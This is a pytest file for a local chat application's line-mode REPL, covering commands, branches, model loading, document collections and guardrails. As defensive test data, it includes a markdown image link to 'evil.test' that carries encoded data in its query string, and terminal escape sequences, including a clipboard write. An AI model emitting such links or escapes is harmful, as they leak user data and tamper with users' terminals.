"""The plain chat: what it prints for what is typed."""

import io
from dataclasses import replace

import pytest

from agents.guardrails.conversation_guard import ConversationGuard
from agents.guardrails.guardrails import Guardrails
from agents.guardrails.policy import Policy, mode_actions
from agents.guardrails.redaction_store import RedactionStore
from agents.memory.entry import USER
from agents.memory.store import MemoryStore
from app.plain.repl import PlainChat
from app.runtime.source_views import CollectionView, DocumentView
from app.runtime.stored_passages import StoredCitation, dump_citations
from app.slash.parse import available
from engine.api.errors import EngineUnavailable
from engine.api.request import FinishReason
from engine.api.snapshot import EngineState
from engine.conversations.passage_source import CheckedAnswer
from engine.conversations.session import TreeSession
from engine.conversations.storage.store import Store
from engine.runtime.model_change import CHANGE_DRAIN_S
from engine.text.reasoning_markers import ReasoningMarkers
from tests.fakes.chat_toys import ToyClient
from tests.fakes.fake_sources import FakeSources, Report, passage
from tests.fakes.image_parser import AnyText, ImageParser
from tests.fakes.images import whole_png
from tests.fakes.installed_models import HUGE, LOADED, OTHER
from tests.retrieval.parsing.samples import docx, paragraph, pdf


class Answering(ToyClient):
    """Answers everything at once with the next of `replies`."""

    def __init__(self):
        super().__init__()
        self.replies = []

    def submit(self, request):
        request_id = super().submit(request)
        text, finish = self.replies.pop(0) if self.replies else ("ok", FinishReason.STOP)
        self.write(text, finish=finish)
        return request_id


class Chat:
    """Runs the plain chat over a list of lines."""

    def __init__(self, folder, guard=None):
        self.guard = guard
        self.memory_file = None
        self.sources = None
        self.images = None
        self.store = Store.open(folder / "c.db")
        self.client = Answering()
        self.resume = False

    def __call__(self, *lines, typed=False):
        given = iter(lines)

        def read(prompt):
            out.write(prompt)
            try:
                return next(given)
            except StopIteration:
                raise EOFError from None

        out = io.StringIO()
        session = TreeSession(
            self.store,
            self.client,
            resume=self.resume,
            guard=self.guard,
            passages=self.sources,
        )
        chat = PlainChat(
            session,
            self.client,
            read=read,
            out=out,
            show_prompts=typed,
            memory_file=self.memory_file,
            sources=self.sources,
            image_reader=self.images,
        )
        self.succeeded = chat.run()
        session.close()
        return out.getvalue()


def guard(folder, mode, **policy):
    guardrails = Guardrails(Policy(*mode_actions(mode), **policy))
    return ConversationGuard(lambda: guardrails, RedactionStore(folder / "redactions.db"))


@pytest.fixture
def chat(tmp_path):
    chat = Chat(tmp_path)
    yield chat
    chat.store.close()


def test_in_a_pipe_each_line_is_a_message_and_only_answers_are_printed(chat):
    chat.client.replies = [("one", FinishReason.STOP), ("two\nlines", FinishReason.STOP)]
    assert chat("hello", "", "more") == "one\ntwo\nlines\n"
    assert chat.succeeded
    first, second = chat.client.requests
    assert second.prompt_ids[: len(first.prompt_ids)] == first.prompt_ids


def test_typed_it_says_who_speaks(chat):
    assert chat("hello", typed=True).endswith("You: Pravāha: ok\nYou: ")


def test_typed_it_says_why_an_answer_is_incomplete(chat):
    chat.client.replies = [("so f", FinishReason.LENGTH)]
    assert "so f\n(context full)\n" in chat("hello", typed=True)


def test_reasoning_is_left_out_and_typed_it_says_that_there_is_some(chat):
    chat.client.markers = ReasoningMarkers("<think>", "</think>")
    chat.client.replies = [("<think>Hm.</think>Yes.", FinishReason.STOP)] * 2
    assert chat("why") == "Yes.\n"
    assert "Pravāha: (thinking) Yes.\n" in chat("why", typed=True)


def test_escapes_of_a_model_never_reach_the_terminal(chat):
    chat.client.replies = [("a\x1b[2Jb\x1b]52;c;eA==\x07c\x9b1md", FinishReason.STOP)]
    assert chat("hello") == "abcd\n"


class TestImages:
    OCR = "(sign.png: its text was read by OCR; the model does not see the image)"

    @pytest.fixture
    def image(self, tmp_path, monkeypatch):
        monkeypatch.chdir(tmp_path)
        (tmp_path / "sign.png").write_bytes(whole_png(30, 20))

    @pytest.fixture
    def reading(self, chat, image):
        with ImageParser(AnyText("Closed on Sundays")).reader() as chat.images:
            yield chat

    def prompts(self, chat):
        return [chat.client.detokenize(one.prompt_ids) for one in chat.client.requests]

    def test_its_text_goes_with_the_message(self, reading):
        assert self.OCR in reading("When is it closed? @sign.png", typed=True)
        (prompt,) = self.prompts(reading)
        assert 'closed? @sign.png\n\nText in the image "sign.png", read by OCR' in prompt
        assert "\n> Closed on Sundays" in prompt

    def test_a_pipe_gets_the_answer_alone(self, reading):
        assert reading("When? @sign.png") == "ok\n"

    def test_it_is_attached_by_a_command(self, reading):
        assert self.OCR in reading("/attach sign.png", "When?", typed=True)
        assert "> Closed on Sundays" in self.prompts(reading)[0]

    def test_it_stays_in_the_conversation(self, reading):
        reading("When? @sign.png", "And else?")
        assert "> Closed on Sundays" in self.prompts(reading)[1]
        reading.resume = True
        assert "> Closed on Sundays" in reading("/history")

    def test_without_ocr_nothing_is_sent(self, chat, image):
        with ImageParser({}).reader(installed=False) as chat.images:
            assert "does not see images: load a model that does" in chat("When? @sign.png")
        assert not chat.succeeded
        assert chat.client.requests == []

    def test_one_without_text_is_not_sent(self, chat, image):
        with ImageParser({}).reader() as chat.images:
            assert "sign.png cannot be read by OCR" in chat("When? @sign.png")
        assert chat.client.requests == []


def test_a_backslash_continues_a_line_and_two_slashes_send_one(chat):
    chat("one\\", "two", "//new")
    texts = [
        chat.client.detokenize(request.prompt_ids, skip_special=False)
        for request in chat.client.requests
    ]
    assert "user\none\ntwo<|im_end|>" in texts[0]
    assert "user\n/new<|im_end|>" in texts[1]


def test_an_unknown_command_is_not_sent_and_a_near_one_named(chat):
    assert "Did you mean /tree" in chat("/tress")
    assert chat.client.requests == []
    assert not chat.succeeded


def test_a_failed_answer_is_told_and_the_chat_goes_on(chat):
    chat.client.replies = [("so f", FinishReason.ERROR)]
    assert chat("hello", "again") == "so f\nError: the step failed\nok\n"
    assert not chat.succeeded


def test_conversations_are_listed_and_opened(chat):
    chat("about rivers", "/new", "about hills")
    shown = chat("/resume", "/resume 2", "/history", "/resume HILLS", "/resume 9")
    assert "1. about hills (2 messages" in shown
    assert "2. about rivers (2 messages" in shown
    assert "You: about rivers\nPravāha: ok\n" in shown
    assert "/resume takes a number from 1 to 1" in shown


def test_the_system_prompt_is_shown_set_and_removed(chat):
    shown = chat("/system", "/system be brief", "/system", "hello", "/system clear", "more")
    assert shown.startswith("There is no system prompt.\nSystem: be brief\nSystem: be brief\n")
    texts = [chat.client.detokenize(r.prompt_ids) for r in chat.client.requests]
    assert ["be brief" in text for text in texts] == [True, False]


def test_regen_undo_redo_rename_and_delete(chat):
    chat.client.replies = [("one", FinishReason.STOP), ("two", FinishReason.STOP)]
    shown = chat(
        "hello", "/regen", "/undo", "/history", "/redo", "/history", "/rename T", "/delete"
    )
    assert "Undone: regenerate.\nYou: hello\nPravāha: one\n" in shown
    assert "Redone: regenerate.\nYou: hello\nPravāha: two\n" in shown
    assert shown.endswith("Conversation: T\nArchived: T\n")
    assert chat("/resume") == "No conversations.\n"


def test_export_writes_every_node_and_overwrites_nothing(chat, tmp_path):
    file = tmp_path / "out.jsonl"
    assert f"Written: {file}" in chat("hello", f"/export {file}")
    assert len(file.read_text().splitlines()) == 2
    assert "can't be written" in chat("hello", f"/export {file}")


def test_every_command_can_be_given_without_an_argument(chat):
    for command in available("plain"):
        shown = chat("hello", f"/{command.name}")
        assert "\x1b" not in shown
        assert "no command" not in shown


def test_help_names_every_command(chat):
    shown = chat("/help")
    for command in available("plain"):
        assert f"/{command.name} {command.argument}".strip() + f": {command.help}" in shown


def test_a_notice_of_the_store_is_told_once(chat):
    chat.store.writes._notices.append("The database was damaged.")
    assert chat("hello", "more").count("Note: The database was damaged.") == 1


def test_a_surplus_argument_is_refused(chat):
    shown = chat("/delete OTHER", "/quit now")
    assert "/delete takes no argument." in shown
    assert "/quit takes no argument." in shown
    assert "archived" not in shown.lower()


def controls(text):
    return [c for c in text if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0]


def test_branches_are_an_outline_whose_numbers_stay(chat):
    chat.client.replies = [(one, FinishReason.STOP) for one in ("one", "two", "three")]
    shown = chat("hello", "/regen", "/tree", "/switch 2", "more", "/tree")
    first, second = shown.split("You are at message 2. Pravāha: one\nthree\n")
    assert first.endswith(
        "1. You: hello; 2 branches follow\n"
        "2. Pravāha: one\n"
        "3. Pravāha: two; after 1; end of branch main; you are here\n"
    )
    assert second == (
        "1. You: hello; 2 branches follow\n"
        "2. Pravāha: one\n"
        "4. You: more\n"
        "5. Pravāha: three; end of branch fork; you are here\n"
        "3. Pravāha: two; after 1; end of branch main\n"
    )


def test_expand_prints_each_answer_with_its_number(chat):
    chat.client.replies = [(one, FinishReason.STOP) for one in ("one", "two", "three words")]
    shown = chat("hello", "/tree", "/expand 2", "/switch 4", "/compare 2 4")
    assert "Answer 3: two\nAnswer 4: three words\n/switch N goes on from one of them.\n" in shown
    assert "You are at message 4. Pravāha: three words\n" in shown
    assert "message 2 says 'one', message 4 says 'three words'." in shown


def test_fork_name_prune_undo_and_promote(chat):
    shown = chat(
        "hello", "/tree", "/fork 2", "/branch ideas", "more", "/switch main", "/switch IDEAS",
        "/prune 9", "/tree", "/prune 3", "/undo", "/switch ideas", "/promote",
    )  # fmt: skip
    assert "Branch fork begins here." in shown
    assert "This branch is named ideas." in shown
    assert "Error: There is no message or branch 9: see /tree.\n" in shown
    assert "Hidden messages: 2. /undo brings them back.\n" in shown
    assert "Undone: prune.\n" in shown
    assert shown.endswith("This is the main branch now.\n")


def test_search_finds_other_branches_and_opens_them(chat):
    chat.client.replies = [(one, FinishReason.STOP) for one in ("a Heron\nflies", "two", "ok")]
    shown = chat("hello", "/regen", "/new", "more", "/search hERON", "/resume 1", "/search zebra")
    assert ". Pravāha: a Heron\n/resume N opens one.\n" in shown
    assert "You are at message 2. Pravāha: a Heron\nflies\n" in shown
    assert shown.endswith("No message contains that.\n")


def test_line_mode_prints_no_control_characters(chat):
    hostile = "a\x1b[2J\x07\x9b1m\x85b"
    chat.client.replies = [(hostile, FinishReason.STOP)] * 3
    shown = chat(
        f"hello {hostile}", "/regen", "/tree", f"/branch x{hostile}", f"/label {hostile}", "/tree",
        "/history", f"/search {hostile}", "/search a", "/compare 2 3", f"/rename {hostile}",
        "/resume", f"/{hostile}", f"/switch {hostile}", "/help", typed=True,
    )  # fmt: skip
    assert controls(shown) == []


def test_a_message_without_room_is_sent_after_shortening(tmp_path):
    chat = Chat(tmp_path)
    chat.client._context_length = 1500
    chat.client.replies = [("first " + "xy" * 500, FinishReason.STOP)]
    message = "next " + "ab" * 300
    shown = chat("one", message, "/shorten it", "/shorten drop", "/shorten drop")
    assert "Error: The message does not fit into the context with all earlier ones." in shown
    assert "Error: /shorten takes drop or summarise.\n" in shown
    assert "Earlier messages are left out of the context.\nok\n" in shown
    prompt = chat.client.tokenizer.decode(chat.client.requests[-1].prompt_ids)
    assert message in prompt
    assert "first" not in prompt
    assert shown.endswith("Error: The conversation has no earlier messages to leave out.\n")
    chat.store.close()


def test_a_branch_is_merged_by_number(chat):
    chat.client.replies = [(one, FinishReason.STOP) for one in ("one", "two", "the gist")]
    shown = chat(
        "hello", "/regen", "/tree", "/merge graft 2", "/undo", "/merge summary 2", "/merge 2"
    )
    assert "Messages copied after this branch: 1.\n" in shown
    assert "tokens recomputed.\nthe gist\n" in shown
    assert "Error: /merge takes graft, summary or pick" in shown


def test_the_archive_in_line_mode(chat):
    shown = chat(
        "rivers", "/delete", "/archive", "/archive 1", "/resume", "/resume 1", "/delete", "/gc",
        "/gc yes", "/gc",
    )  # fmt: skip
    assert "/archive N brings one back.\nBrought back: rivers\n1. rivers (" in shown
    assert "Archived conversations: 1. /gc yes deletes them for good" in shown
    assert shown.endswith("Conversations deleted: 1.\nThe archive is empty.\n")


def test_a_conversation_is_exported_and_imported(chat, tmp_path):
    for name in ("a.json", "a.jsonl", "a.messages.json"):
        file = tmp_path / name
        shown = chat("hello", f"/export {file}", f"/import {file}", "/history")
        assert shown.endswith("Conversation: hello\nYou: hello\nPravāha: ok\n")
    shown = chat("hello", f"/export {tmp_path / 'a.md'}", "/export a.txt", "/import no such file")
    assert (
        tmp_path / "a.md"
    ).read_text() == "# hello\n\n## You\n\nhello\n\n## Pravāha (toy)\n\nok\n"
    assert "Error: The name must end in .json" in shown
    assert shown.endswith("Error: There is no file no such file.\n")


def test_an_attached_file_goes_with_the_next_message(chat, tmp_path):
    file = tmp_path / "notes.md"
    file.write_text("the notes")
    shown = chat(f"/attach {file}", "read it", "/attach nothing there", "more")
    assert "Error: There is no file nothing there.\n" in shown
    prompts = [chat.client.tokenizer.decode(one.prompt_ids) for one in chat.client.requests]
    assert f"@{file} read it\n\nnotes.md:\n```\nthe notes\n```" in prompts[0]
    assert prompts[1].count("the notes") == 1


class Loading(Answering):
    """Passes through scripted states, one for each snapshot that is read while there are more."""

    def __init__(self, *states):
        super().__init__()
        self.states = list(states)
        self.installed = [LOADED, OTHER, HUGE]
        self.error = None

    def on_wake(self, callback):
        self._wakes = callback

    def load_model(self, name, *, drain_s=CHANGE_DRAIN_S):
        super().load_model(name, drain_s=drain_s)
        self.states = [
            {"state": EngineState.LOADING, "next_model": name, "loading_progress": share}
            for share in (0.0, 0.1, 0.6)
        ]
        if self.error is not None:
            self.states.append({"state": EngineState.UNLOADED, "last_error": self.error})
        self.states.append(None)

    def snapshot(self):
        shown = super().snapshot()
        if self.states:
            now = self.states[0]
            if len(self.states) > 1:
                self.states.pop(0)
            self._wakes()
            if now is None:
                self.next_model, self.state = None, EngineState.READY
                return super().snapshot()
            self.state = now["state"]
            return replace(shown, **{"model": None, "next_model": None, **now})
        return shown


@pytest.fixture
def loading(chat):
    chat.client = Loading()
    return chat


def test_the_installed_models_are_listed(loading):
    shown = loading("/model")
    assert shown.startswith(
        "Model: toy, F32, toy/portable, 1 threads\nfake-135m (loaded), 98.0 MiB"
    )
    assert "qwen3-0.6b, 640 MiB, qwen3, Q8_0, 32768 tokens of context\n" in shown
    assert "huge-70b" in shown
    assert "cannot be loaded: huge-70b does not fit" in shown


def test_a_model_is_loaded_with_its_progress_as_lines(loading):
    shown = loading("/model qwen3-0.6b now", "hello")
    assert loading.client.loads == [("qwen3-0.6b", 0.0)]
    assert shown == (
        "Loading qwen3-0.6b: 0%\nLoading qwen3-0.6b: 60%\n"
        "Model: toy, F32, toy/portable, 1 threads\nok\n"
    )


def test_a_model_that_cannot_be_loaded_is_an_error(loading):
    assert "Error: No model called qwem is installed. Did you mean qwen3" in loading("/model qwem")
    assert loading.client.loads == []
    loading.client.error = "qwen3-0.6b is damaged."
    assert loading("/model qwen3-0.6b").endswith("Error: qwen3-0.6b is damaged.\n")
    assert not loading.succeeded


def test_a_message_that_has_no_model_waits_for_the_next_one(loading):
    loading.client.states = [
        {"state": EngineState.LOADING, "loading_progress": 0.5},
        {"state": EngineState.LOADING, "loading_progress": 0.5},
        {"state": EngineState.UNLOADED, "last_error": "toy is damaged."},
    ]
    shown = loading("hello", "and then", "/model qwen3-0.6b", typed=True)
    waits = "Error: toy is damaged. /model NAME loads another, and the message is sent.\n"
    assert shown.count(waits) == 2
    assert shown.endswith("Pravāha: ok\nPravāha: ok\nYou: ")
    texts = [loading.client.detokenize(one.prompt_ids) for one in loading.client.requests]
    assert "hello" in texts[0]
    assert "and then" in texts[1]


def test_a_message_without_a_model_is_refused_with_the_way_out(chat):
    chat.client.state = EngineState.UNLOADED
    chat.client.refuse = EngineUnavailable("toy is damaged.")
    assert chat("hello") == "Error: toy is damaged. /model NAME loads another one.\n"


def test_sampling_parameters_are_listed_set_checked_and_reset(chat):
    shown = chat(
        "/sampling temperature=0.7 top_p=0.5", "/sampling", "hello", "/sampling top_p=2",
        "/sampling tpo_p=1", "/sampling reset", "more",
    )  # fmt: skip
    assert shown.startswith("Sampling of this conversation: temperature=0.7 top_p=0.5.\n")
    assert "top_p: 0.5 (set for this conversation)\ntop_k: 0 (default)\n" in shown
    assert "seed: a new one for each answer (default)\n" in shown
    assert "Error: top_p must" in shown
    assert "Error: There is no sampling parameter 'tpo_p'. Did you mean top_p" in shown
    assert "This conversation sets no sampling parameters.\n" in shown
    temperatures = [request.sampling.temperature for request in chat.client.requests]
    assert temperatures == [0.7, 0.2]


def test_typed_it_says_what_the_guardrails_removed_and_a_pipe_gets_the_answer_alone(tmp_path):
    leak = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"
    chat = Chat(tmp_path, guard=guard(tmp_path, "redact"))
    chat.client.replies = [(leak, FinishReason.STOP), ("⟦CARD_1⟧ it is", FinishReason.STOP)]
    shown = chat("hello", "my card is 4111 1111 1111 1111", typed=True)
    assert "![x]([exfiltration removed])\n(guardrails: 1 address that sends data removed)" in shown
    assert "(guardrails: 1 card number replaced before the model read it)" in shown
    assert "4111 1111 1111 1111 it is" in shown
    chat.client.replies = [(leak, FinishReason.STOP)]
    assert chat("hello") == "![x]([exfiltration removed])\n"
    chat.store.close()


def test_a_blocked_answer_says_so(tmp_path):
    chat = Chat(tmp_path, guard=guard(tmp_path, "check", blocklist=("secret plan",)))
    chat.client.replies = [("the secret plan", FinishReason.STOP)]
    assert chat("hello") == "the \n(ended by the guardrails)\n"
    assert "not sent: it contains a blocked phrase" in chat("a secret plan")
    chat.store.close()


def test_memory_is_listed_and_forgotten(tmp_path):
    chat = Chat(tmp_path)
    with MemoryStore(tmp_path / "memory.db") as store:
        key = store.store_fact("build", "make amber", scope=USER, origin="user").entry.id
    chat.memory_file = tmp_path / "memory.db"
    printed = chat("/memory", f"/memory forget {key}", "/memory search amber")
    assert "  make amber\nForgot 1.\nNothing is remembered about that.\n" in printed
    chat.store.close()


class FilledAtOnce(FakeSources):
    """Adding is done at once, unless Ctrl+C is pressed first."""

    interrupted = False

    def add(self, name, paths, **options):
        future = super().add(name, paths, **options)
        if self.interrupted:
            self.interrupted = False
            return Interrupted(future, self)
        self.added(Report(added=len(paths)))
        return future


class Interrupted:
    """A future whose first wait ends with Ctrl+C."""

    def __init__(self, future, sources):
        self.future, self.sources = future, sources

    def result(self):
        if not self.sources.cancelled:
            raise KeyboardInterrupt
        self.sources.added(Report(added=1, cancelled=True))
        return self.future.result()


def test_collections_are_filled_attached_asked_and_shown_in_line_mode(chat):
    chat.sources = FilledAtOnce()
    chat.sources.found.append([passage(1, "Each bolt takes 12 Nm."), passage(2, "Nuts are brass.")])
    chat.client.replies = [("It takes 12 Nm [1].", FinishReason.STOP)]
    out = chat(
        "/sources",
        "/sources create docs",
        "/sources add docs a.md 'b c.md'",
        "/sources attach docs",
        "@docs how tight?",
        "/sources show 2",
        "/sources show 3",
        "/sources",
        typed=True,
    )
    assert [line.removeprefix("You: ") for line in out.split("\n")[1:]] == [
        "No collections yet: /sources create NAME makes one.",
        "docs is empty: /sources add docs PATH fills it.",
        "2 documents added to docs.",
        "docs is attached: answers of this branch are taken from it.",
        "Pravāha: It takes 12 Nm [1].",
        "[1] guide.md:10, Install > Linux",
        "[2] /docs/guide.md, guide.md:20, Install > Linux",
        "Nuts are brass.",
        "Error: The last answer was given no passage 3.",
        "docs: 0 documents, 0 passages, attached to this branch",
        "",
    ]


def test_a_collection_named_in_a_message_is_attached_and_missing_support_is_said(chat):
    chat.sources = FakeSources(CollectionView("docs", 1, 2, 1))
    chat.sources.listed["docs"] = (DocumentView("/docs/scan.pdf", 0, "The file is encrypted."),)
    chat.sources.found.append([passage(1, "Each bolt takes 12 Nm.")])
    dropped = dump_citations([StoredCitation(1, False, 0, 0)])
    chat.sources.checks.append(CheckedAnswer("Gold [unsupported].", dropped))
    chat.client.replies = [("Gold [1].", FinishReason.STOP)]
    out = chat(
        "@docs", "what is it?", "/sources", "/sources detach docs", "/sources stop", typed=True
    )
    for line in (
        "docs attached: answers of this branch are taken from it.",
        "(no passage supports this answer)",
        "(citations dropped: [1] without support)",
        "docs: 1 documents, 2 passages, 1 cannot be read, attached to this branch",
        "  /docs/scan.pdf: The file is encrypted.",
        "docs is no longer attached to this branch.",
        "Error: Ctrl+C stops adding.",
    ):
        assert line in out
    assert chat.sources.searched == [(("docs",), "what is it?")]


def test_a_declined_message_says_the_rule_and_can_be_answered_anyway(chat):
    chat.sources = FakeSources(CollectionView("docs", 1, 2, 0))
    chat.sources.declined = "No document has the name Zoral."
    chat.sources.found += [[], [passage(1, "Each bolt takes 12 Nm.")]]
    chat.client.replies = [("No.", FinishReason.STOP), ("It takes 12 Nm [1].", FinishReason.STOP)]
    out = chat(
        "@docs how tight is Zoral?",
        "/anyway",
        "/anyway",
        "/sources evidence 0.3",
        "/sources evidence 3",
        typed=True,
    )
    for line in (
        "(No document has the name Zoral. /anyway has it answered all the same.)",
        "Pravāha: It takes 12 Nm [1].",
        "Error: Only a message that the attached documents do not answer is asked again.",
        "A passage must have an evidence of 0.3 for the documents to answer a question.",
        "Error: /sources evidence takes a number from 0 to 1",
    ):
        assert line in out
    assert chat.sources.anyway == [False, True]
    assert chat.sources.min_evidence == 0.3


def test_collections_are_refreshed_watched_and_filtered_in_line_mode(chat):
    chat.sources = FakeSources(CollectionView("docs", 5, 9, 0))
    chat.sources.updates.append(Report(updated=1))
    out = chat(
        "/sources refresh docs",
        "/sources watch docs",
        "/sources watch docs",
        "/sources attach docs year>=2025",
        "/sources",
        "/sources unwatch docs",
        "/sources unwatch docs",
        typed=True,
    )
    assert [line.removeprefix("You: ") for line in out.split("\n")[1:]] == [
        "docs: 1 changed.",
        "docs is watched until you quit: what changes is read again.",
        "Error: docs is watched already.",
        "docs (year>=2025) is attached: answers of this branch are taken from it. Documents that fit: 5.",
        "docs: 5 documents, 9 passages, attached to this branch (year>=2025), watched",
        "(docs is not watched any more.)",
        "Error: docs is not watched.",
        "",
    ]


def test_ctrl_c_stops_adding_and_keeps_what_is_stored(chat):
    chat.sources = FilledAtOnce(CollectionView("docs", 0, 0, 0))
    chat.sources.interrupted = True
    out = chat("/sources add docs many")
    assert out == "1 document added to docs. Stopped: the same command goes on from there.\n"


def test_without_the_embedding_model_line_mode_says_how_to_install_it(chat):
    chat.sources = FakeSources(CollectionView("docs", 0, 0, 0))
    chat.sources.has_model = False
    assert "run `pravaha models add minilm`" in chat("/sources add docs a.md")
    assert not chat.succeeded


def test_the_beginning_of_only_one_name_stands_for_it(loading):
    loading("/mod QWEN now")
    assert loading.client.loads == [("qwen3-0.6b", 0.0)]


def test_a_name_that_nobody_knows_is_asked_about_once(chat, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    shown = chat("see @nosuch.py", typed=True)
    assert "Error: There is no file nosuch.py. The same line again sends it as it is." in shown
    assert "Pravāha: ok" not in shown
    shown = chat("see @nosuch.py", "see @nosuch.py", typed=True)
    assert "Pravāha: ok" in shown
    assert "ok" in chat("see @nosuch.py")  # a pipe cannot be asked


def test_line_mode_names_no_agents(chat, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    shown = chat("@security_audit src", typed=True)
    assert "Error: There is no collection or file security_audit." in shown


def test_documents_are_attached(chat, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "lease.docx").write_bytes(docx(paragraph("The rent is 400.")))
    chat("what is the rent? @lease.docx", "/attach lease.docx", "and now?")
    prompts = [chat.client.tokenizer.decode(one.prompt_ids) for one in chat.client.requests]
    assert all("lease.docx:\n```\nThe rent is 400.\n```" in one for one in prompts[-2:])
    (tmp_path / "secret.pdf").write_bytes(pdf(["x"], password="p"))
    assert "Error: secret.pdf can't be attached: it is protected by a password." in chat(
        "@secret.pdf"
    )


def test_a_model_without_a_chat_template_is_told_once_but_not_in_a_pipe(chat):
    chat.client.continues_text = True
    told = "Note: toy has no chat template: it continues text."
    assert chat("Once upon", "a time", typed=True).count(told) == 1
    assert told not in chat("Once upon")
